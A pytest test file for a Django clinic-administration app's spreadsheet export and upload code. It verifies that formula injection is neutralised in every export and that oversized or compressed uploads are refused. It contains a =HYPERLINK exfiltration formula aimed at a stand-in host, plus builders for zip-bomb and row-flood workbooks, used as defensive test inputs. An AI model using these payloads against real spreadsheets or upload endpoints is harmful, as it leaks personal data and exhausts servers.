"""Files out and files in (core.tabular): spreadsheet formulas neutralised in every export,
codes written as text and money as numbers; uploads bounded before they are parsed.

The hostile workbooks are built here (zip bomb in sharedStrings, 100,000-row sheet, lying
dimension, a million parts); bench/upload_limits.py reuses the builders to time them."""

import csv
import datetime
import io
import zipfile
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from clinics.models import Role
from core import tabular
from core.tabular import DATE, INT, MONEY, TEXT, Column, TableError, csv_text, enforce_upload_limits, read_table
from tests.factories import FacilityFactory, clinic_with_doctors, make_user

MALICIOUS = '=HYPERLINK("http://x/?"&B2,"看")'
NEUTRALISED = "'" + MALICIOUS

# --- Hostile workbooks, written part by part (openpyxl would not write them) ------------------------

_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    "</Types>"
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)
_WORKBOOK = (
    f'<?xml version="1.0" encoding="UTF-8"?><workbook {_NS} xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
    "</Relationships>"
)
SETTLEMENT_COLUMNS = ["setl_id", "mdtrt_id", "psn_no", "psn_name", "certno", "insutype", "clr_type", "medfee_sumamt",
                      "fund_pay_sumamt", "acct_pay", "psn_cash_pay", "setl_time", "fixmedins_code", "atddr_no"]


def workbook_bytes(sheet_parts, string_parts=(), extra_members=0) -> bytes:
    """A minimal XLSX: the sheet and shared strings are written from iterables of bytes, so a part
    of hundreds of megabytes never sits in memory whole."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("_rels/.rels", _RELS)
        archive.writestr("xl/workbook.xml", _WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        with archive.open("xl/worksheets/sheet1.xml", "w") as part:
            for chunk in sheet_parts:
                part.write(chunk)
        with archive.open("xl/sharedStrings.xml", "w") as part:
            part.write(f'<?xml version="1.0" encoding="UTF-8"?><sst {_NS}>'.encode())
            for chunk in string_parts:
                part.write(chunk)
            part.write(b"</sst>")
        for n in range(extra_members):
            archive.writestr(f"customXml/item{n}.xml", "<a/>")
    return buffer.getvalue()


def _inline(value: str) -> bytes:
    return f'<c t="inlineStr"><is><t>{value}</t></is></c>'.encode()


def sheet_parts(header: list[str], body_row: bytes, rows: int, dimension: str | None = None):
    """A sheet of `header` then `rows` copies of `body_row` (rows without r="…", as some writers do)."""
    yield f'<?xml version="1.0" encoding="UTF-8"?><worksheet {_NS}>'.encode()
    if dimension:
        yield f'<dimension ref="{dimension}"/>'.encode()
    yield b"<sheetData><row>" + b"".join(_inline(h) for h in header) + b"</row>"
    block = b"<row>" + body_row + b"</row>"
    done = 0
    while done < rows:
        step = min(10_000, rows - done)
        yield block * step
        done += step
    yield b"</sheetData></worksheet>"


def zip_bomb_xlsx(shared_strings_mb: int = 204) -> bytes:
    """The issue's attack: a small file whose sharedStrings part unpacks to hundreds of MB."""
    one_mb = b"<si><t>" + b"A" * (1024 * 1024 - 16) + b"</t></si>"
    header = ["setl_id", "psn_name"]
    return workbook_bytes(sheet_parts(header, b'<c t="s"><v>0</v></c>', 1), (one_mb for _ in range(shared_strings_mb)))


def many_rows_xlsx(rows: int = 100_000, columns: list[str] = SETTLEMENT_COLUMNS, dimension: bool = True) -> bytes:
    """The issue's other attack: 100,000 settlement rows of repeated values in a few hundred KB."""
    body = b"".join(_inline("0" if name.endswith("amt") else "x") for name in columns)
    last = f"{chr(ord('A') + len(columns) - 1)}{rows + 1}" if dimension else None
    return workbook_bytes(sheet_parts(columns, body, rows, last))


def cr_only_csv() -> bytes:
    return 'name,code,note\r张三,0012,"two\rlines"\r李四,0034,\r'.encode()


# --- Files out: one rule for every cell ---------------------------------------------------------------


@pytest.mark.parametrize("value", [MALICIOUS, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=1"])
def test_formula_triggers_are_neutralised(value):
    assert tabular.neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["-12.50", "+3", "12", "张三", "", "a=b", "0012"])
def test_plain_values_and_signed_numbers_are_left_alone(value):
    assert tabular.neutralise(value) == value


def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))


def test_csv_neutralises_formulas_keeps_codes_and_writes_money():
    headers = ["name", "id_number", "account", "amount", "day", "count"]
    rows = [[MALICIOUS, "001234199001011234", "0012345678", Decimal("-1234.565"), datetime.date(2026, 10, 1), 7],
            ["@cmd", "", "", "1234.5", None, None]]
    kinds = {"id_number": TEXT, "account": TEXT, "amount": MONEY, "day": DATE, "count": INT}
    header, first, second = _csv_rows(csv_text(headers, rows, kinds=kinds))
    assert header == headers
    assert first == [NEUTRALISED, "001234199001011234", "0012345678", "-1234.57", "2026-10-01", "7"]
    assert second == ["'@cmd", "", "", "1234.50", "", ""]


def _sheet(data: bytes):
    return load_workbook(io.BytesIO(data)).active


def test_xlsx_strings_are_never_formulas_codes_are_text_money_is_numeric():
    headers = [Column("name"), Column("id_number", TEXT), Column("amount", MONEY), Column("day", DATE), "n"]
    rows = [[MALICIOUS, "001234199001011234", Decimal("-0.005"), datetime.date(2026, 10, 1), 3],
            ["#N/A", "00012", "1,234.565", datetime.datetime(2026, 10, 1, 9, 30), "-5"],
            ["bell\x07name", 12345, None, "", "=1+1"]]
    sheet = _sheet(tabular.xlsx_bytes(headers, rows))
    name, code, amount, day, n = sheet[2]
    assert (name.data_type, name.value) == ("s", NEUTRALISED)
    assert (code.data_type, code.value, code.number_format) == ("s", "001234199001011234", "@")
    assert amount.data_type == "n" and Decimal(str(amount.value)) == Decimal("-0.01") and amount.number_format == "#,##0.00"
    assert day.value == datetime.datetime(2026, 10, 1) and day.number_format == "yyyy-mm-dd"
    assert n.value == 3
    name, code, amount, day, n = sheet[3]
    assert (name.data_type, name.value) == ("s", "#N/A"), "an error value is text, not an error cell"
    assert (code.value, code.number_format) == ("00012", "@")
    assert Decimal(str(amount.value)) == Decimal("1234.57") and amount.number_format == "#,##0.00"
    assert n.data_type == "s" and n.value == "-5", "a negative number in a text column stays a number-like text"
    name, code, amount, _day, n = sheet[4]
    assert name.value == "bellname", "a control character would make the file unreadable"
    assert (code.data_type, code.value) == ("s", "12345")
    assert amount.value is None
    assert (n.data_type, n.value) == ("s", "'=1+1")
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_kinds_must_name_real_columns():
    with pytest.raises(ValueError):
        tabular.xlsx_bytes(["a"], [], kinds={"b": TEXT})
    with pytest.raises(ValueError):
        csv_text(["a", "b"], [], kinds=[TEXT])


# --- Files out: every export endpoint with a hostile name in the data --------------------------------


def _assert_no_live_formula(sheet):
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    hostile = [cell for cell in cells if isinstance(cell.value, str) and "HYPERLINK" in cell.value]
    assert hostile and all(cell.data_type == "s" and cell.value == NEUTRALISED for cell in hostile)


@pytest.fixture
def hostile_doctor(db, roles):
    clinic, (doctor,) = clinic_with_doctors(1, code="045102000001")
    type(doctor).objects.filter(pk=doctor.pk).update(name=MALICIOUS, bank_account="0012345678901234567")
    doctor.refresh_from_db()
    return clinic, doctor


def test_doctor_csv_and_xlsx_exports(hostile_doctor, client, county_admin):
    clinic, doctor = hostile_doctor
    client.force_login(county_admin)
    url = reverse("admin:staffing_doctor_changelist")
    response = client.post(url, {"action": "export_csv", "_selected_action": [doctor.pk]})
    header, line = _csv_rows(response.content.decode("utf-8"))
    values = dict(zip(header, line, strict=True))
    assert values["name"] == NEUTRALISED
    assert values["bank_account"] == "0012345678901234567" and values["clinic_code"] == "045102000001"
    response = client.post(url, {"action": "export_xlsx", "_selected_action": [doctor.pk]})
    sheet = _sheet(response.content)
    _assert_no_live_formula(sheet)
    cells = dict(zip([c.value for c in sheet[1]], sheet[2], strict=True))
    for column in ("id_number", "bank_account", "clinic_code", "mobile", "insurance_code", "licence_number"):
        assert cells[column].data_type == "s" and cells[column].number_format == "@", column
    assert cells["bank_account"].value == "0012345678901234567" and cells["clinic_code"].value == "045102000001"
    assert isinstance(cells["birth_date"].value, datetime.datetime) and cells["birth_date"].number_format == "yyyy-mm-dd"


def test_payroll_bank_file_and_summaries(client, county_admin, monkeypatch):
    from staffing.payroll.seeding import seed_payroll
    from tests.payroll.conftest import OCT, approve, run_month

    monkeypatch.setattr("staffing.payroll.sources.outpatient_visits",
                        lambda *, month, facility_ids=None: {})
    seed_payroll({})
    clinic, doctors = clinic_with_doctors(2, code="045102000009")
    type(doctors[0]).objects.filter(pk=doctors[0].pk).update(name=MALICIOUS, bank_account="0062300000000000001")
    type(clinic).objects.filter(pk=clinic.pk).update(name=MALICIOUS)
    run = approve(run_month(OCT))
    client.force_login(county_admin)

    bank = zipfile.ZipFile(io.BytesIO(client.get(reverse("admin:payroll_payrun_bank_files", args=[run.pk])).content))
    sheet = _sheet(bank.read(next(n for n in bank.namelist() if "广西农村信用社" in n)))
    _assert_no_live_formula(sheet)
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    mine = next(r for r in rows if r[2] == "0062300000000000001")
    assert mine[1] == NEUTRALISED and Decimal(str(mine[3])) > 0
    assert all(not str(r[1]).startswith("=") for r in rows)

    summary = _csv_rows(client.get(reverse("admin:payroll_payrun_export", args=[run.pk, "summary-csv"])).content.decode())
    assert any(r[1] == NEUTRALISED and r[2] == "045102000009" for r in summary)

    sheet = _sheet(client.get(reverse("admin:payroll_payrun_export", args=[run.pk, "summary-xlsx"])).content)
    _assert_no_live_formula(sheet)
    line = next(row for row in sheet.iter_rows(min_row=2) if row[2].value == "045102000009")
    assert line[2].number_format == "@" and line[3].data_type == "n"
    assert all(c.data_type == "n" and c.number_format == "#,##0.00" for c in line[4:])
    assert Decimal(str(line[-1].value)) == run.net_total


def test_roster_summary_export(client, county_admin):
    from staffing.rosters.services.holidays import holiday_year_load

    holiday_year_load(year=2026)
    clinic, doctors = clinic_with_doctors(1, code="045102000011")
    type(clinic).objects.filter(pk=clinic.pk).update(name=MALICIOUS)
    type(doctors[0]).objects.filter(pk=doctors[0].pk).update(name=MALICIOUS)
    client.force_login(county_admin)
    response = client.get("/api/v1/rosters/summary/xlsx/", {"month": "2026-10"})
    assert response.status_code == 200
    sheet = _sheet(response.content)
    _assert_no_live_formula(sheet)
    line = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == "045102000011")
    assert line[0].number_format == "@" and line[1].value == NEUTRALISED
    assert all(c.data_type == "n" for c in line[5:])


def test_rejected_settlement_rows_xlsx(client, roles):
    from tests.settlements.helpers import csv_bytes, row

    clinic = FacilityFactory(code="045102000021")
    clerk = make_user(Role.INSURANCE_CLERK, username="clerk")
    client.force_login(clerk)
    bad = row(clinic, 2, insutype="999", psn_name=MALICIOUS, medfee_sumamt="12.345")
    client.post("/admin/settlements/settlementimport/upload/", {"file": SimpleUploadedFile("s.csv", csv_bytes([bad]))})
    from clinics.settlements.models import SettlementImport

    batch = SettlementImport.objects.get()
    sheet = _sheet(client.get(f"/admin/settlements/settlementimport/{batch.pk}/rejected.xlsx").content)
    _assert_no_live_formula(sheet)
    cells = dict(zip([c.value for c in sheet[1]], sheet[2], strict=True))
    assert cells["row_number"].value == 2 and cells["row_number"].data_type == "n"
    assert cells["psn_name"].value == NEUTRALISED
    assert (cells["fixmedins_code"].value, cells["fixmedins_code"].number_format) == ("045102000021", "@")
    assert (cells["setl_id"].data_type, cells["setl_id"].number_format) == ("s", "@")
    assert cells["medfee_sumamt"].value == "12.345", "a rejected amount is shown as it was sent"


def test_reconciliation_exports(client, county_admin):
    from clinics.settlements.services import reconciliation_compute, result_import, settlements_import
    from tests.settlements.helpers import DAY, numbered, row

    clinic = FacilityFactory(code="045102000031")
    type(clinic).objects.filter(pk=clinic.pk).update(name=MALICIOUS)
    clinic.refresh_from_db()
    settlements_import(source="api", acting_user=None, rows=numbered([row(clinic, 1), row(clinic, 2)]))
    begin, end = DAY.replace(day=1), DAY.replace(day=31)
    reconciliation_compute(begin=begin, end=end)
    result_import(data=b"P1\tM1\t0BUREAUONLY\tH\t1\t0\t=1+1\t50.00\t40.00\t2.00", filename="result.txt",
                  facility=clinic, begin=begin, end=end)
    client.force_login(county_admin)

    sheet = _sheet(client.get(f"/admin/settlements/reconciliation/export/?month={DAY:%Y-%m}").content)
    _assert_no_live_formula(sheet)
    line = sheet[2]
    assert (line[0].value, line[0].number_format) == ("045102000031", "@")
    assert line[7].value == Decimal("100.00") and line[7].number_format == "#,##0.00"

    sheet = _sheet(client.get(f"/admin/settlements/reconciliation/export/?month={DAY:%Y-%m}&detail=1").content)
    _assert_no_live_formula(sheet)
    line = next(r for r in sheet.iter_rows(min_row=2) if r[3].value == "0BUREAUONLY")
    assert line[3].number_format == "@" and line[9].number_format == "#,##0.00" and line[9].value == Decimal("50.00")

def test_teleconsult_report_xlsx(client, county_admin, monkeypatch):
    from telemedicine.selectors import DepartmentMonth

    report = [DepartmentMonth(MALICIOUS, MALICIOUS, datetime.date(2026, 12, 1), 4, 1, 1, 2, 0, [25.0])]
    monkeypatch.setattr("telemedicine.admin.report_by_department_month", lambda **kwargs: report)
    client.force_login(county_admin)
    response = client.get("/admin/telemedicine/consultbooking/report/", {"start": "2026-12", "end": "2026-12", "format": "xlsx"})
    sheet = _sheet(response.content)
    _assert_no_live_formula(sheet)
    line = sheet[2]
    assert [c.value for c in line] == ["2026-12", NEUTRALISED, NEUTRALISED, 4, 1, 1, 2, 0, 25.0]


# --- Files in: limits, refused with the limit named ---------------------------------------------------


def test_oversized_upload_is_refused_before_it_is_read(settings):
    settings.UPLOAD_MAX_BYTES = 1000

    class Upload:
        size = 1001
        name = "big.csv"

        def read(self):
            raise AssertionError("read although over the limit")

    with pytest.raises(TableError, match="UPLOAD_MAX_BYTES"):
        read_table(Upload(), "big.csv", [])
    with pytest.raises(TableError, match="UPLOAD_MAX_BYTES"):
        enforce_upload_limits(b"x" * 1001, "big.xlsx")
    enforce_upload_limits(b"x" * 1000, "ok.pdf")


def test_csv_over_the_row_limit_is_refused_exactly(settings):
    settings.UPLOAD_MAX_ROWS = 3
    at_limit = csv_text(["a", "b"], [["1", '"x\ny"']] * 3).encode()  # line breaks inside cells are not rows
    assert len(list(read_table(at_limit, "f.csv", ["a"])[1])) == 3
    with pytest.raises(TableError, match="UPLOAD_MAX_ROWS"):
        read_table(csv_text(["a"], [["1"]] * 4).encode(), "f.csv", ["a"])
    with pytest.raises(TableError, match="UPLOAD_MAX_ROWS"):
        enforce_upload_limits(b"a\r1\r2\r3\r4\r", "f.csv")


def test_the_100000_row_xlsx_is_refused_without_being_parsed(settings, monkeypatch):
    data = many_rows_xlsx(100_000, dimension=False)
    assert len(data) < 600_000, "a few hundred KB, like the issue's 365 KB file"
    monkeypatch.setattr(tabular, "load_workbook", lambda *a, **k: pytest.fail("parsed although over the limit"))
    # Rows this alike compress 200 times: the ratio limit refuses the file first…
    with pytest.raises(TableError, match="XLSX_MAX_COMPRESSION_RATIO"):
        read_table(data, "settlements.xlsx", ["setl_id"])
    # …and without it, its 1.4 million cells (100,000 rows × 14 columns) are over XLSX_MAX_CELLS.
    settings.XLSX_MAX_COMPRESSION_RATIO = 1000
    with pytest.raises(TableError, match="XLSX_MAX_CELLS"):
        read_table(data, "settlements.xlsx", ["setl_id"])


def test_an_xlsx_over_the_row_limit_is_refused_even_when_its_dimension_lies(settings, monkeypatch):
    settings.UPLOAD_MAX_ROWS = 50
    monkeypatch.setattr(tabular, "load_workbook", lambda *a, **k: pytest.fail("parsed although over the limit"))
    lying = workbook_bytes(sheet_parts(["a", "b"], _inline("1") + _inline("2"), 51, dimension="A1:B3"))
    with pytest.raises(TableError, match="UPLOAD_MAX_ROWS"):
        read_table(lying, "f.xlsx", ["a"])
    far_row = workbook_bytes(iter([f'<worksheet {_NS}><sheetData><row r="1">'.encode() + _inline("a") + b"</row>",
                                   b'<row r="1048576">' + _inline("1") + b"</row></sheetData></worksheet>"]))
    with pytest.raises(TableError, match="UPLOAD_MAX_ROWS"):
        read_table(far_row, "f.xlsx", ["a"])


def test_rows_past_the_limit_stop_the_reading(settings, monkeypatch):
    """Were the up-front count bypassed, the reader itself stops at the limit."""
    settings.UPLOAD_MAX_ROWS = 5
    monkeypatch.setattr(tabular, "_check_xlsx", lambda data: None)
    header, rows = read_table(many_rows_xlsx(1000, ["a", "b"], dimension=False), "f.xlsx", ["a"])
    read = []
    with pytest.raises(TableError, match="UPLOAD_MAX_ROWS"):
        for r in rows:
            read.append(r.number)
    assert read == [2, 3, 4, 5, 6]


def test_zip_bomb_is_refused_before_parsing(monkeypatch):
    data = zip_bomb_xlsx(60)
    assert len(data) < 200_000
    monkeypatch.setattr(tabular, "load_workbook", lambda *a, **k: pytest.fail("parsed a zip bomb"))
    with pytest.raises(TableError, match="XLSX_MAX_COMPRESSION_RATIO") as refused:
        read_table(data, "bomb.xlsx", ["setl_id"])
    assert "sharedStrings.xml" in str(refused.value)


def test_unpacked_size_members_and_shared_strings_are_bounded(settings, monkeypatch):
    monkeypatch.setattr(tabular, "load_workbook", lambda *a, **k: pytest.fail("parsed although over a limit"))
    settings.XLSX_MAX_UNCOMPRESSED_BYTES = 200_000
    with pytest.raises(TableError, match="XLSX_MAX_UNCOMPRESSED_BYTES"):
        enforce_upload_limits(many_rows_xlsx(5000, ["a", "b"]), "f.xlsx")
    settings.XLSX_MAX_UNCOMPRESSED_BYTES = 100 * 1024 * 1024
    with pytest.raises(TableError, match="XLSX_MAX_MEMBERS"):
        enforce_upload_limits(workbook_bytes(sheet_parts(["a"], b"", 0), extra_members=600), "f.xlsx")
    settings.XLSX_MAX_CELLS = 1000
    strings = workbook_bytes(sheet_parts(["a"], b"", 0), (b"<si><t>%d</t></si>" % n for n in range(1001)))
    with pytest.raises(TableError, match="XLSX_MAX_CELLS"):
        enforce_upload_limits(strings, "f.xlsx")


def test_a_workbook_within_the_limits_reads_as_before():
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["date", "code", "amount"])
    sheet.append([datetime.date(2026, 10, 1), "0012", 12.5])
    sheet.append([None, None, None])
    sheet.append(["2026-10-02", "0034", 3])
    buffer = io.BytesIO()
    workbook.save(buffer)
    header, rows = read_table(buffer.getvalue(), "f.xlsx", ["code"])
    assert header == ["date", "code", "amount"]
    assert [(r.number, r.values) for r in rows] == [
        (2, {"date": "2026-10-01 00:00:00", "code": "0012", "amount": "12.5"}),
        (4, {"date": "2026-10-02", "code": "0034", "amount": "3"}),
    ]


def test_not_a_workbook_is_refused_clearly():
    for data in (b"PK\x05\x06" + b"\x00" * 18, b"not a zip", b""):
        with pytest.raises(TableError):
            list(read_table(data, "f.xlsx", [])[1])


# --- Files in: CSV line breaks and broken rows -------------------------------------------------------


def test_cr_only_csv_is_read_into_the_right_rows():
    header, rows = read_table(cr_only_csv(), "mac.csv", ["name", "code"])
    assert header == ["name", "code", "note"]
    assert [(r.number, r.values) for r in rows] == [
        (2, {"name": "张三", "code": "0012", "note": "two\rlines"}),
        (3, {"name": "李四", "code": "0034", "note": ""}),
    ]


def test_a_broken_csv_row_is_refused_with_its_number():
    data = ("a,b\n1,2\n3," + "x" * 200_000 + "\n").encode()
    with pytest.raises(TableError, match=r"(Row|第) 3\b"):
        list(read_table(data, "f.csv", ["a"])[1])


def test_cr_only_doctor_import_through_the_admin_is_not_a_500(client, county_admin):
    client.force_login(county_admin)
    page = client.post(reverse("admin:staffing_doctor_import"),
                       {"file": SimpleUploadedFile("doctors.csv", b"name,sex\r\xe5\xbc\xa0,M\r")})
    assert page.status_code == 200
    assert "id_number" in page.content.decode(), "refused for its missing columns, read across CR line breaks"


def test_oversized_import_through_the_admin_names_the_limit(client, county_admin, settings):
    settings.UPLOAD_MAX_BYTES = 100
    client.force_login(county_admin)
    page = client.post(reverse("admin:staffing_doctor_import"), {"file": SimpleUploadedFile("d.csv", b"x," * 100)})
    assert page.status_code == 200 and "UPLOAD_MAX_BYTES" in page.content.decode()


@pytest.mark.parametrize(
    "url,field",
    [
        ("/admin/settlements/settlementimport/upload/", "file"),
        ("/admin/staffing/doctor/import/", "file"),
        ("/admin/rosters/calendaryear/import/", "file"),
    ],
)
def test_an_upload_over_the_size_limit_is_refused_by_its_form_before_it_is_read(client, county_admin, settings, url, field):
    """The form refuses the file by its declared size, so no view reads it into memory."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    settings.UPLOAD_MAX_BYTES = 1000
    client.force_login(county_admin)
    response = client.post(url, {field: SimpleUploadedFile("big.csv", b"x" * 5000)})
    assert response.status_code == 200
    assert "UPLOAD_MAX_BYTES" in response.content.decode()
